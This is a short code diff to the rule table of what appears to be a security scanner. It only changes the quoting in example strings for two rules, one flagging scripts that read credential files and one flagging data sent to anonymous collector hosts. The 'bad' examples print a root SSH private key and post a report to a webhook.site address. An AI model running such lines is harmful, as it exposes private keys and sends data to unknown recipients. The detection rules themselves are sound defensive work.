@@ -166,8 +166,8 @@ RULES = (
         reason="A script that opens keys, stored logins, cookies or wallets has them. Documentation that only names "
         "the file is low.",
         remedy="Use the program that the credentials are for, or ask the user for a token of its own.",
-        bad=Example(text="print(open('/root/.ssh/id_rsa').read())\n", path="scripts/run.py"),
-        good=Example(text="print(open('config/settings.json').read())\n", path="scripts/run.py"),
+        bad=Example(text='print(open("/root/.ssh/id_rsa").read())\n', path="scripts/run.py"),
+        good=Example(text='print(open("config/settings.json").read())\n', path="scripts/run.py"),
     ),
     Rule(
         id="collector-host",
@@ -176,7 +176,7 @@ RULES = (
         reason="Request inboxes, tunnels, pastes and webhooks of chats have a recipient that their name does not tell. "
         "In documentation it is low.",
         remedy="Name the service that receives the data.",
-        bad=Example(text="requests.post('https://webhook.site/5f1c', data=report)\n", path="scripts/run.py"),
+        bad=Example(text='requests.post("https://webhook.site/5f1c", data=report)\n', path="scripts/run.py"),
         good=Example(text="Send the report with `POST https://api.acme.example/reports`.\n"),
     ),
 )
